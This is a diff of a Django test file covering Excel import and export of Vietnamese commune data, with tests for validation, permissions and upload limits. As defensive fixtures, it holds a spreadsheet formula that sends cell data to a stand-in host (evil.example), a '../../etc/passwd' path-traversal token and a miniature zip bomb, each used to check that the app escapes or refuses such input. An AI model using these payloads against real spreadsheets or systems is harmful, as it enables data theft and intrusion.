@@ -1,8 +1,9 @@
 """Commune attributes in Excel: upload → preview → confirm, the template, exports, and the admin import.
 
 Every workbook is built with openpyxl here, goes through the real views, and the tests assert on what was (and
-was not) written to the database. Messages are requested in English (``Accept-Language: en``) so the
-assertions do not depend on compiled Vietnamese catalogues; column names and values are Vietnamese anyway.
+was not) written to the database. The administrator's client picks English with the language switch's
+cookie, so that assertions on messages do not depend on the Vietnamese catalogue; column names and values
+are Vietnamese anyway.
 """
 
 import datetime
@@ -10,6 +11,7 @@ import io
 import zipfile
 
 import pytest
+from django.conf import settings as django_settings
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from django.utils import translation
@@ -21,7 +23,6 @@ from rollout.spreadsheets import XLSX_CONTENT_TYPE
 IMPORT_URL = "/communes/import/"
 ADMIN_IMPORT_URL = "/admin/communes/commune/import/"
 ADMIN_PROCESS_URL = "/admin/communes/commune/process_import/"
-EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
 
 HEADERS = [
     "Mã xã",
@@ -114,11 +115,11 @@ def stored_uploads(settings) -> list:
 
 
 def preview(client, content: bytes, name: str = "xa.xlsx", **extra):
-    return client.post(reverse("communes:commune_import"), {"file": upload(content, name)}, **EN, **extra)
+    return client.post(reverse("communes:commune_import"), {"file": upload(content, name)}, **extra)
 
 
 def confirm(client, token: str):
-    return client.post(reverse("communes:commune_import"), {"token": token}, **EN)
+    return client.post(reverse("communes:commune_import"), {"token": token})
 
 
 def statuses(response) -> dict[int, str]:
@@ -149,9 +150,14 @@ def sheet_rows(content: bytes) -> list[tuple]:
     return list(workbook.worksheets[0].iter_rows(values_only=True))
 
 
+def in_english(client):
+    client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"
+    return client
+
+
 @pytest.fixture
-def admin_client(client_as):
-    return client_as("administrator")
+def administrator(client_as):
+    return in_english(client_as("administrator"))
 
 
 # --- a good file ---------------------------------------------------------------------------------------
@@ -159,7 +165,7 @@ def admin_client(client_as):
 
 @pytest.mark.django_db
 def test_good_file_previews_every_row_then_confirm_writes_and_recomputes_coverage(
-    demo_baseline, admin_client, settings, django_capture_on_commit_callbacks
+    demo_baseline, administrator, settings, django_capture_on_commit_callbacks
 ):
     assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 54
     assert Commune.objects.get(code=DAK_MAN).coverage == Coverage.UNCOVERED
@@ -185,7 +191,7 @@ def test_good_file_previews_every_row_then_confirm_writes_and_recomputes_coverag
     )
     before = db_state()
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 200
     assert statuses(response) == {2: "changed", 3: "unchanged", 4: "changed", 5: "changed"}
@@ -213,7 +219,7 @@ def test_good_file_previews_every_row_then_confirm_writes_and_recomputes_coverag
     assert len(stored_uploads(settings)) == 1
 
     with django_capture_on_commit_callbacks(execute=True):
-        response = confirm(admin_client, token)
+        response = confirm(administrator, token)
 
     assert response.status_code == 302
     assert response["Location"] == reverse("communes:commune_list")
@@ -240,25 +246,45 @@ def test_good_file_previews_every_row_then_confirm_writes_and_recomputes_coverag
     assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 52
     # The stored upload is gone, and the same token cannot be used twice.
     assert stored_uploads(settings) == []
-    follow = admin_client.get(response["Location"], **EN)
+    follow = administrator.get(response["Location"])
     assert any("Import finished: 0 new, 3 changed, 1 unchanged." in m for m in messages_of(follow))
     written = db_state()
-    again = confirm(admin_client, token)
+    again = confirm(administrator, token)
     assert again.status_code == 302
     assert again["Location"] == reverse("communes:commune_import")
     assert db_state() == written
 
 
 @pytest.mark.django_db
-def test_a_file_with_only_some_columns_changes_only_those(demo_baseline, admin_client):
+def test_the_preview_speaks_vietnamese_by_default(demo_baseline, client_as):
+    client = client_as("administrator")
+    content = xlsx(
+        HEADERS,
+        [row_for(DAK_MAN, **{"Có CA chính quy từ ngày": "15/03/2021", "Dân số": 3500}), row_for(DAK_PEK)],
+    )
+
+    response = preview(client, content)
+
+    assert response.status_code == 200
+    html = response.content.decode()
+    assert '<html lang="vi">' in html
+    for text in ("Xem trước", "Thay đổi", "Không đổi", "Xác nhận nhập dữ liệu"):
+        assert text in html, text
+    # Values in Vietnamese formats: 3.500 and dd/mm/yyyy; an empty value shows as a dash.
+    assert "<strong>Dân số</strong>: — → 3.500" in html
+    assert "<strong>Có CA chính quy từ ngày</strong>: — → 15/03/2021" in html
+
+
+@pytest.mark.django_db
+def test_a_file_with_only_some_columns_changes_only_those(demo_baseline, administrator):
     """Columns left out of the file are left alone (a blank "Biên giới" would mean "Không", a missing one
     means "keep")."""
     content = xlsx(["Mã xã", "Dân số"], [[DAK_BLO, 1200], [DAK_MAN, "2 500"]])
     before = {row["code"]: row for row in db_state()}
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
     assert statuses(response) == {2: "changed", 3: "changed"}
-    response = confirm(admin_client, response.context["token"])
+    response = confirm(administrator, response.context["token"])
 
     assert response.status_code == 302
     dak_blo = Commune.objects.get(code=DAK_BLO)
@@ -274,15 +300,15 @@ def test_a_file_with_only_some_columns_changes_only_those(demo_baseline, admin_c
 
 @pytest.mark.django_db
 def test_clearing_the_baseline_date_uncovers_the_commune(
-    demo_baseline, admin_client, django_capture_on_commit_callbacks
+    demo_baseline, administrator, django_capture_on_commit_callbacks
 ):
     assert Commune.objects.get(code=TT_DAK_GLEI).coverage == Coverage.BASELINE
     content = xlsx(HEADERS, [row_for(TT_DAK_GLEI, **{"Có CA chính quy từ ngày": None})])
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
     assert statuses(response) == {2: "changed"}
     with django_capture_on_commit_callbacks(execute=True):
-        confirm(admin_client, response.context["token"])
+        confirm(administrator, response.context["token"])
 
     commune = Commune.objects.get(code=TT_DAK_GLEI)
     assert commune.baseline_covered_on is None
@@ -291,14 +317,14 @@ def test_clearing_the_baseline_date_uncovers_the_commune(
 
 
 @pytest.mark.django_db
-def test_row_numbers_are_the_spreadsheet_rows_even_after_blank_rows(demo_baseline, admin_client):
+def test_row_numbers_are_the_spreadsheet_rows_even_after_blank_rows(demo_baseline, administrator):
     content = xlsx(
         HEADERS,
         [row_for(DAK_MAN), row_for(DAK_PEK), row_for(XOP, **{"Dân số": "abc"})],
         blank_rows_after=(0,),
     )
     # Rows: 1 headers, 2 Đắk Man, 3 blank, 4 Đắk Pék, 5 Xốp.
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 400
     assert statuses(response) == {2: "unchanged", 4: "unchanged", 5: "error"}
@@ -309,7 +335,7 @@ def test_row_numbers_are_the_spreadsheet_rows_even_after_blank_rows(demo_baselin
 
 
 @pytest.mark.django_db
-def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, admin_client, settings):
+def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, administrator, settings):
     content = xlsx(
         HEADERS,
         [
@@ -323,11 +349,14 @@ def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, admin_c
             row_for(NGOC_LINH, **{"Nước giáp biên": "Lào"}),  # 9: a country on a non-border commune
             row_for(DAK_BLO, **{"Định biên": 0}),  # 10: staffing norm below one
             row_for(DAK_NHOONG, **{"Nước giáp biên": "Thái Lan"}),  # 11: not a neighbouring country
+            row_for(23368, **{"Có CA chính quy từ ngày": "01/01/1900"}),  # 12: date out of range
+            row_for(23371, **{"Dân số": 10**12, "Định biên": 40_000}),  # 13: numbers too large, two errors
+            row_for(23374, **{"Biên giới": "hmm", "Nước giáp biên": "Lào"}),  # 14: bad yes/no (one error)
         ],
     )
     before = db_state()
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 400
     report = response.context["report"]
@@ -344,9 +373,12 @@ def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, admin_c
         9: "error",
         10: "error",
         11: "error",
+        12: "error",
+        13: "error",
+        14: "error",
     }
     errors = errors_by_row(response)
-    assert set(errors) == set(range(3, 12))
+    assert set(errors) == set(range(3, 15))
     assert [(column, value) for column, value, _ in errors[3]] == [("Mã xã", 99999)]
     assert "99999" in errors[3][0][2]
     assert [(column, value) for column, value, _ in errors[4]] == [("Dân số", "abc")]
@@ -364,12 +396,16 @@ def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, admin_c
     assert [(column, value) for column, value, _ in errors[10]] == [("Định biên", 0)]
     assert [(column, value) for column, value, _ in errors[11]] == [("Nước giáp biên", "Thái Lan")]
     assert "Lào" in errors[11][0][2]
+    assert [(column, value) for column, value, _ in errors[12]] == [("Có CA chính quy từ ngày", "01/01/1900")]
+    assert "out of range" in errors[12][0][2]
+    assert sorted((column, value) for column, value, _ in errors[13]) == [("Dân số", 10**12), ("Định biên", 40_000)]
+    assert [(column, value) for column, value, _ in errors[14]] == [("Biên giới", "hmm")]
     # The page says so: every error with its row, column and value; no confirm button.
     html = response.content.decode()
     assert 'data-testid="import-refused"' in html
     assert 'data-testid="import-confirm"' not in html
-    assert "9 rows have errors. Nothing was written" in html
-    assert html.count('data-status="error"') == 9
+    assert "12 rows have errors. Nothing was written" in html
+    assert html.count('data-status="error"') == 12
     for needle in (
         "<strong>Mã xã</strong> = “99999”",
         "<strong>Dân số</strong> = “abc”",
@@ -380,9 +416,13 @@ def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, admin_c
         "<strong>Nước giáp biên</strong> = “Lào”",
         "<strong>Định biên</strong> = “0”",
         "<strong>Nước giáp biên</strong> = “Thái Lan”",
+        "<strong>Có CA chính quy từ ngày</strong> = “01/01/1900”",
+        "<strong>Dân số</strong> = “1000000000000”",
+        "<strong>Định biên</strong> = “40000”",
+        "<strong>Biên giới</strong> = “hmm”",
     ):
         assert needle in html, needle
-    for number in range(3, 12):
+    for number in range(3, 15):
         assert f"<td>{number}</td>" in html
     # Nothing written, nothing kept.
     assert db_state() == before
@@ -390,11 +430,11 @@ def test_bad_rows_show_every_error_and_nothing_is_written(demo_baseline, admin_c
 
 
 @pytest.mark.django_db
-def test_a_commune_listed_twice_is_an_error(demo_baseline, admin_client):
+def test_a_commune_listed_twice_is_an_error(demo_baseline, administrator):
     content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_MAN, **{"Dân số": 200})])
     before = db_state()
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 400
     assert statuses(response) == {2: "changed", 3: "error"}
@@ -405,10 +445,10 @@ def test_a_commune_listed_twice_is_an_error(demo_baseline, admin_client):
 
 
 @pytest.mark.django_db
-def test_a_missing_commune_code_in_a_row_is_an_error(demo_baseline, admin_client):
+def test_a_missing_commune_code_in_a_row_is_an_error(demo_baseline, administrator):
     content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Mã xã": None, "Dân số": 10})])
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 400
     [(column, _value, message)] = errors_by_row(response)[2]
@@ -417,10 +457,22 @@ def test_a_missing_commune_code_in_a_row_is_an_error(demo_baseline, admin_client
 
 
 @pytest.mark.django_db
-def test_an_unknown_column_is_refused(demo_baseline, admin_client):
+def test_values_in_a_column_without_a_header_are_refused(demo_baseline, administrator):
+    before = db_state()
+    response = preview(administrator, xlsx(["Mã xã", None, "Dân số"], [[DAK_MAN, "ghi chú", 100]]))
+
+    assert response.status_code == 400
+    code, text = file_error(response)
+    assert code == "headerless_value"
+    assert "Row 2" in text
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_an_unknown_column_is_refused(demo_baseline, administrator):
     """A misspelt header would otherwise be ignored silently, and the user would believe it imported."""
     before = db_state()
-    response = preview(admin_client, xlsx(["Mã xã", "Dan so"], [[DAK_MAN, 100]]))
+    response = preview(administrator, xlsx(["Mã xã", "Dan so"], [[DAK_MAN, 100]]))
 
     assert response.status_code == 400
     code, text = file_error(response)
@@ -430,38 +482,51 @@ def test_an_unknown_column_is_refused(demo_baseline, admin_client):
 
 
 @pytest.mark.django_db
-def test_confirm_with_a_tampered_or_expired_token_writes_nothing(demo_baseline, admin_client, client, users):
+def test_confirm_with_a_tampered_or_expired_token_writes_nothing(demo_baseline, administrator, client, users):
     content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 777})])
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
     token = response.context["token"]
     before = db_state()
 
     for bad in ("x" * 32, token[:-1] + ("A" if token[-1] != "A" else "B"), "../../etc/passwd", ""):
-        response = confirm(admin_client, bad)
+        response = confirm(administrator, bad)
         assert response.status_code == 302, bad
         assert response["Location"] == reverse("communes:commune_import")
-        follow = admin_client.get(response["Location"], **EN)
+        follow = administrator.get(response["Location"])
         assert any("expired" in m for m in messages_of(follow)), bad
         assert db_state() == before
 
     # A new session (signed out and in again) does not know the token any more.
-    admin_client.logout()
-    admin_client.force_login(users["administrator"])
-    response = confirm(admin_client, token)
+    administrator.logout()
+    administrator.force_login(users["administrator"])
+    response = confirm(administrator, token)
     assert response.status_code == 302
     assert db_state() == before
 
 
 @pytest.mark.django_db
-def test_confirm_checks_every_row_again_and_writes_nothing_if_one_went_bad(demo_baseline, admin_client, settings):
+def test_a_new_upload_replaces_the_pending_one(demo_baseline, administrator, settings):
+    first = preview(administrator, xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})])).context["token"]
+    second = preview(administrator, xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 2})])).context["token"]
+    assert len(stored_uploads(settings)) == 1
+
+    assert confirm(administrator, first)["Location"] == IMPORT_URL
+    assert Commune.objects.get(code=DAK_MAN).population is None
+    assert confirm(administrator, second)["Location"] == reverse("communes:commune_list")
+    assert Commune.objects.get(code=DAK_MAN).population == 2
+    assert stored_uploads(settings) == []
+
+
+@pytest.mark.django_db
+def test_confirm_checks_every_row_again_and_writes_nothing_if_one_went_bad(demo_baseline, administrator, settings):
     content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_PEK, **{"Dân số": 200})])
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
     assert response.context["report"].ok
     # Between preview and confirm, the second commune disappears.
     Commune.objects.filter(code=DAK_PEK).delete()
     before = db_state()
 
-    response = confirm(admin_client, response.context["token"])
+    response = confirm(administrator, response.context["token"])
 
     assert response.status_code == 400
     assert statuses(response) == {2: "changed", 3: "error"}
@@ -519,7 +584,7 @@ def _workbook_with_broken_sheet() -> bytes:
         ("xa.xlsx", xlsx([], []), "empty", "no header row"),
         ("xa.xlsx", xlsx(["Dân số", "Định biên"], [[100, 5]]), "missing_header", "Mã xã"),
         ("xa.xlsx", xlsx(["Mã xã", "Dân số", "Dân số"], [[DAK_MAN, 1, 2]]), "duplicate_header", "Dân số"),
-        ("XA.XLSX", "not a zip".encode(), "not_xlsx", "not an Excel workbook"),
+        ("XA.XLSX", b"not a zip", "not_xlsx", "not an Excel workbook"),
     ],
     ids=[
         "csv",
@@ -537,10 +602,10 @@ def _workbook_with_broken_sheet() -> bytes:
         "upper-case-extension",
     ],
 )
-def test_unusable_files_are_refused_with_a_reason(demo_baseline, admin_client, settings, name, content, code, text):
+def test_unusable_files_are_refused_with_a_reason(demo_baseline, administrator, settings, name, content, code, text):
     before = db_state()
 
-    response = preview(admin_client, content, name)
+    response = preview(administrator, content, name)
 
     assert response.status_code == 400
     error_code, error_text = file_error(response)
@@ -554,10 +619,10 @@ def test_unusable_files_are_refused_with_a_reason(demo_baseline, admin_client, s
 
 
 @pytest.mark.django_db
-def test_an_empty_upload_is_refused(demo_baseline, admin_client, settings):
+def test_an_empty_upload_is_refused(demo_baseline, administrator, settings):
     before = db_state()
 
-    response = preview(admin_client, b"")
+    response = preview(administrator, b"")
 
     assert response.status_code == 400
     assert response.context["form"].errors["file"]
@@ -567,20 +632,20 @@ def test_an_empty_upload_is_refused(demo_baseline, admin_client, settings):
 
 
 @pytest.mark.django_db
-def test_a_post_without_a_file_is_refused(demo_baseline, admin_client):
-    response = admin_client.post(reverse("communes:commune_import"), {}, **EN)
+def test_a_post_without_a_file_is_refused(demo_baseline, administrator):
+    response = administrator.post(reverse("communes:commune_import"), {})
 
     assert response.status_code == 400
     assert response.context["form"].errors["file"]
 
 
 @pytest.mark.django_db
-def test_a_file_over_the_size_limit_is_refused_before_it_is_read(demo_baseline, admin_client, settings):
+def test_a_file_over_the_size_limit_is_refused_before_it_is_read(demo_baseline, administrator, settings):
     content = xlsx(HEADERS, [row_for(code, **{"Dân số": 1}) for code in (DAK_MAN, DAK_PEK, XOP)])
     settings.IMPORT_MAX_UPLOAD_BYTES = len(content) - 1
     before = db_state()
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 400
     code, text = file_error(response)
@@ -589,11 +654,11 @@ def test_a_file_over_the_size_limit_is_refused_before_it_is_read(demo_baseline, 
     assert db_state() == before
 
     settings.IMPORT_MAX_UPLOAD_BYTES = len(content)
-    assert preview(admin_client, content).status_code == 200
+    assert preview(administrator, content).status_code == 200
 
 
 @pytest.mark.django_db
-def test_a_workbook_that_expands_too_much_is_refused(demo_baseline, admin_client, settings):
+def test_a_workbook_that_expands_too_much_is_refused(demo_baseline, administrator, settings):
     """A zip bomb in miniature: a few kilobytes that expand well past the limit."""
     filler = "A" * 30_000
     content = xlsx(["Mã xã", "Ghi chú"], [[DAK_MAN, filler] for _ in range(40)])
@@ -601,7 +666,7 @@ def test_a_workbook_that_expands_too_much_is_refused(demo_baseline, admin_client
     settings.IMPORT_MAX_UNCOMPRESSED_BYTES = 200_000  # ...but it expands past 1 MB
     before = db_state()
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 400
     code, text = file_error(response)
@@ -611,11 +676,11 @@ def test_a_workbook_that_expands_too_much_is_refused(demo_baseline, admin_client
 
 
 @pytest.mark.django_db
-def test_a_file_with_too_many_rows_is_refused(demo_baseline, admin_client, settings):
+def test_a_file_with_too_many_rows_is_refused(demo_baseline, administrator, settings):
     settings.IMPORT_MAX_ROWS = 2
     content = xlsx(HEADERS, [row_for(code) for code in (DAK_MAN, DAK_PEK, XOP)])
 
-    response = preview(admin_client, content)
+    response = preview(administrator, content)
 
     assert response.status_code == 400
     code, text = file_error(response)
@@ -627,8 +692,8 @@ def test_a_file_with_too_many_rows_is_refused(demo_baseline, admin_client, setti
 
 
 @pytest.mark.django_db
-def test_template_has_the_vietnamese_headers_and_no_rows(demo_baseline, admin_client):
-    response = admin_client.get(reverse("communes:commune_template"))
+def test_template_has_the_vietnamese_headers_and_no_rows(demo_baseline, administrator):
+    response = administrator.get(reverse("communes:commune_template"))
 
     assert response.status_code == 200
     assert response["Content-Type"] == XLSX_CONTENT_TYPE
@@ -636,24 +701,24 @@ def test_template_has_the_vietnamese_headers_and_no_rows(demo_baseline, admin_cl
     rows = sheet_rows(response.content)
     assert rows == [tuple(HEADERS)]
     # The import page links to it.
-    page = admin_client.get(reverse("communes:commune_import"))
+    page = administrator.get(reverse("communes:commune_import"))
     assert page.status_code == 200
     assert reverse("communes:commune_template") in page.content.decode()
 
 
 @pytest.mark.django_db
-def test_the_filled_in_template_imports(demo_baseline, admin_client, django_capture_on_commit_callbacks):
-    template = admin_client.get(reverse("communes:commune_template")).content
+def test_the_filled_in_template_imports(demo_baseline, administrator, django_capture_on_commit_callbacks):
+    template = administrator.get(reverse("communes:commune_template")).content
     workbook = load_workbook(io.BytesIO(template))
     sheet = workbook.worksheets[0]
     sheet.append([DAK_MAN, None, None, DAK_GLEI, None, "Có", "Không", None, 1500, 6, "01/01/2024", None])
     buffer = io.BytesIO()
     workbook.save(buffer)
 
-    response = preview(admin_client, buffer.getvalue())
+    response = preview(administrator, buffer.getvalue())
     assert statuses(response) == {2: "changed"}
     with django_capture_on_commit_callbacks(execute=True):
-        confirm(admin_client, response.context["token"])
+        confirm(administrator, response.context["token"])
 
     commune = Commune.objects.get(code=DAK_MAN)
     assert (commune.is_key_area, commune.population, commune.staffing_norm) == (True, 1500, 6)
@@ -661,8 +726,8 @@ def test_the_filled_in_template_imports(demo_baseline, admin_client, django_capt
 
 
 @pytest.mark.django_db
-def test_export_has_vietnamese_headers_and_every_commune(demo_baseline, admin_client):
-    response = admin_client.get(reverse("communes:commune_export"))
+def test_export_has_vietnamese_headers_and_every_commune(demo_baseline, administrator):
+    response = administrator.get(reverse("communes:commune_export"))
 
     assert response.status_code == 200
     assert response["Content-Type"] == XLSX_CONTENT_TYPE
@@ -686,6 +751,11 @@ def test_export_has_vietnamese_headers_and_every_commune(demo_baseline, admin_cl
     assert by_code[DAK_BLO]["Biên giới"] == "Có"
     assert by_code[DAK_BLO]["Nước giáp biên"] == labels["laos"]
     assert by_code[DAK_BLO]["Có CA chính quy từ ngày"] == datetime.datetime(2020, 1, 1)
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    date_column = HEADERS.index("Có CA chính quy từ ngày") + 1
+    dated = [row[date_column - 1] for row in sheet.iter_rows(min_row=2) if row[date_column - 1].value]
+    assert dated
+    assert {cell.number_format for cell in dated} == {"DD/MM/YYYY"}
     assert by_code[DAK_MAN]["Trọng điểm ANTT"] == "Không"
     assert by_code[DAK_MAN]["Có CA chính quy từ ngày"] is None
     assert by_code[TT_DAK_GLEI]["Loại"] == labels["township"]
@@ -708,8 +778,8 @@ def test_export_has_vietnamese_headers_and_every_commune(demo_baseline, admin_cl
     ],
     ids=["kind", "coverage", "border", "search", "district", "district-and-coverage"],
 )
-def test_export_respects_the_list_filters(demo_baseline, admin_client, query, expected):
-    response = admin_client.get(reverse("communes:commune_export"), query)
+def test_export_respects_the_list_filters(demo_baseline, administrator, query, expected):
+    response = administrator.get(reverse("communes:commune_export"), query)
 
     assert response.status_code == 200
     _headers, *rows = sheet_rows(response.content)
@@ -736,25 +806,25 @@ def test_export_is_limited_to_the_users_area(demo_baseline, client_as):
 
 
 @pytest.mark.django_db
-def test_export_then_import_unchanged_is_a_no_op(demo_baseline, admin_client, django_capture_on_commit_callbacks):
+def test_export_then_import_unchanged_is_a_no_op(demo_baseline, administrator, django_capture_on_commit_callbacks):
     Commune.objects.filter(code=DAK_MAN).update(population=12345, staffing_norm=4)
-    exported = admin_client.get(reverse("communes:commune_export")).content
+    exported = administrator.get(reverse("communes:commune_export")).content
     before = db_state()
 
-    response = preview(admin_client, exported, "danh-sach-xa.xlsx")
+    response = preview(administrator, exported, "danh-sach-xa.xlsx")
 
     assert response.status_code == 200
     report = response.context["report"]
     assert report.totals == {"new": 0, "changed": 0, "unchanged": 102, "error": 0}
     assert set(statuses(response)) == set(range(2, 104))
     with django_capture_on_commit_callbacks(execute=True):
-        response = confirm(admin_client, response.context["token"])
+        response = confirm(administrator, response.context["token"])
     assert response.status_code == 302
     assert db_state() == before
 
 
 @pytest.mark.django_db
-def test_export_escapes_formulas_and_the_round_trip_still_works(demo_baseline, admin_client):
+def test_export_escapes_formulas_and_the_round_trip_still_works(demo_baseline, administrator):
     dangerous = {
         DAK_MAN: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
         DAK_PEK: "+1+1",
@@ -765,7 +835,7 @@ def test_export_escapes_formulas_and_the_round_trip_still_works(demo_baseline, a
     for code, name in dangerous.items():
         Commune.objects.filter(code=code).update(name=name)
 
-    exported = admin_client.get(reverse("communes:commune_export")).content
+    exported = administrator.get(reverse("communes:commune_export")).content
 
     sheet = load_workbook(io.BytesIO(exported)).worksheets[0]
     names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
@@ -779,7 +849,7 @@ def test_export_escapes_formulas_and_the_round_trip_still_works(demo_baseline, a
         assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
     # Names are read-only: the escaped export imports back as unchanged.
     before = db_state()
-    response = preview(admin_client, exported)
+    response = preview(administrator, exported)
     assert response.context["report"].totals["unchanged"] == 102
     assert db_state() == before
 
@@ -798,13 +868,13 @@ def test_only_administrators_may_import(demo_baseline, client_as, role, settings
     assert client.get(reverse("communes:commune_template")).status_code == 403
     assert client.post(reverse("communes:commune_import"), {"file": upload(content)}).status_code == 403
     assert client.post(reverse("communes:commune_import"), {"token": "x" * 32}).status_code == 403
-    assert client.get(ADMIN_IMPORT_URL).status_code in (302, 403)
-    assert client.post(
-        ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content)}
-    ).status_code in (
-        302,
-        403,
-    )
+    # Only staff reach the admin at all: everyone else is sent to the admin's login page.
+    response = client.get(ADMIN_IMPORT_URL)
+    assert response.status_code == 302
+    assert "/admin/login/" in response["Location"]
+    response = client.post(ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content)})
+    assert response.status_code == 302
+    assert "/admin/login/" in response["Location"]
     assert db_state() == before
     assert stored_uploads(settings) == []
 
@@ -825,8 +895,8 @@ def test_an_administrators_token_is_useless_to_another_user(demo_baseline, clien
 @pytest.mark.parametrize(
     ("method", "url"),
     [
-        ("get", "/communes/import/"),
-        ("post", "/communes/import/"),
+        ("get", IMPORT_URL),
+        ("post", IMPORT_URL),
         ("get", "/communes/import/template.xlsx"),
         ("get", "/communes/export.xlsx"),
         ("get", ADMIN_IMPORT_URL),
@@ -858,11 +928,11 @@ def test_a_user_without_a_role_may_not_export(demo_baseline, client_as):
 
 
 def admin_preview(client, content: bytes, name: str = "xa.xlsx"):
-    return client.post(ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content, name)}, **EN)
+    return client.post(ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content, name)})
 
 
 @pytest.mark.django_db
-def test_admin_import_good_file(demo_baseline, admin_client, django_capture_on_commit_callbacks):
+def test_admin_import_good_file(demo_baseline, administrator, django_capture_on_commit_callbacks):
     content = xlsx(
         HEADERS,
         [row_for(DAK_MAN, **{"Có CA chính quy từ ngày": "15/03/2021", "Dân số": " 3.500 "}), row_for(DAK_PEK)],
@@ -870,7 +940,7 @@ def test_admin_import_good_file(demo_baseline, admin_client, django_capture_on_c
     )
     before = db_state()
 
-    response = admin_preview(admin_client, content)
+    response = admin_preview(administrator, content)
 
     assert response.status_code == 200
     assert not response.context["form"].errors
@@ -886,7 +956,7 @@ def test_admin_import_good_file(demo_baseline, admin_client, django_capture_on_c
         name: confirm_form.initial[name] for name in ("import_file_name", "original_file_name", "format", "resource")
     }
     with django_capture_on_commit_callbacks(execute=True):
-        response = admin_client.post(ADMIN_PROCESS_URL, data, **EN)
+        response = administrator.post(ADMIN_PROCESS_URL, data)
 
     assert response.status_code == 302
     assert response["Location"] == reverse("admin:communes_commune_changelist")
@@ -898,7 +968,7 @@ def test_admin_import_good_file(demo_baseline, admin_client, django_capture_on_c
 
 
 @pytest.mark.django_db
-def test_admin_import_bad_file_shows_errors_and_writes_nothing(demo_baseline, admin_client):
+def test_admin_import_bad_file_shows_errors_and_writes_nothing(demo_baseline, administrator):
     content = xlsx(
         HEADERS,
         [
@@ -910,7 +980,7 @@ def test_admin_import_bad_file_shows_errors_and_writes_nothing(demo_baseline, ad
     )
     before = db_state()
 
-    response = admin_preview(admin_client, content)
+    response = admin_preview(administrator, content)
 
     assert response.status_code == 200
     result = response.context["result"]
@@ -939,10 +1009,10 @@ def test_admin_import_bad_file_shows_errors_and_writes_nothing(demo_baseline, ad
     ],
     ids=["csv", "text-renamed", "broken-zip", "no-rows", "missing-code-column"],
 )
-def test_admin_import_refuses_unusable_files(demo_baseline, admin_client, name, content, text):
+def test_admin_import_refuses_unusable_files(demo_baseline, administrator, name, content, text):
     before = db_state()
 
-    response = admin_preview(admin_client, content, name)
+    response = admin_preview(administrator, content, name)
 
     assert response.status_code == 200
     errors = " ".join(response.context["form"].errors.get("import_file", []))
@@ -952,21 +1022,21 @@ def test_admin_import_refuses_unusable_files(demo_baseline, admin_client, name, 
 
 
 @pytest.mark.django_db
-def test_admin_import_refuses_a_file_over_the_size_limit(demo_baseline, admin_client, settings):
+def test_admin_import_refuses_a_file_over_the_size_limit(demo_baseline, administrator, settings):
     content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})])
     settings.IMPORT_MAX_UPLOAD_BYTES = 100
     before = db_state()
 
-    response = admin_preview(admin_client, content)
+    response = admin_preview(administrator, content)
 
     assert "too large" in " ".join(response.context["form"].errors["import_file"])
     assert db_state() == before
 
 
 @pytest.mark.django_db
-def test_admin_export_is_formula_safe_and_imports_back(demo_baseline, admin_client):
+def test_admin_export_is_formula_safe_and_imports_back(demo_baseline, administrator):
     Commune.objects.filter(code=DAK_MAN).update(name="=1+1")
-    response = admin_client.post(
+    response = administrator.post(
         "/admin/communes/commune/export/",
         {
             "resource": "0",
@@ -997,7 +1067,54 @@ def test_admin_export_is_formula_safe_and_imports_back(demo_baseline, admin_clie
     by_code = {row[0]: row for row in rows}
     assert by_code[DAK_MAN][1] == "'=1+1"
     before = db_state()
-    preview_response = preview(admin_client, response.content)
+    preview_response = preview(administrator, response.content)
     assert preview_response.status_code == 200, errors_by_row(preview_response)
     assert preview_response.context["report"].totals["unchanged"] == 102
+    assert db_state() == before
+
+
+@pytest.mark.django_db
+def test_admin_import_confirm_writes_nothing_if_a_row_went_bad(demo_baseline, administrator):
+    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_PEK, **{"Dân số": 200})])
+    response = admin_preview(administrator, content)
+    confirm_form = response.context["confirm_form"]
+    data = {
+        name: confirm_form.initial[name] for name in ("import_file_name", "original_file_name", "format", "resource")
+    }
+    # Between preview and confirm, the second commune disappears: the first row must not be written alone.
+    Commune.objects.filter(code=DAK_PEK).delete()
+    before = db_state()
+
+    response = administrator.post(ADMIN_PROCESS_URL, data)
+
+    assert response.status_code == 302
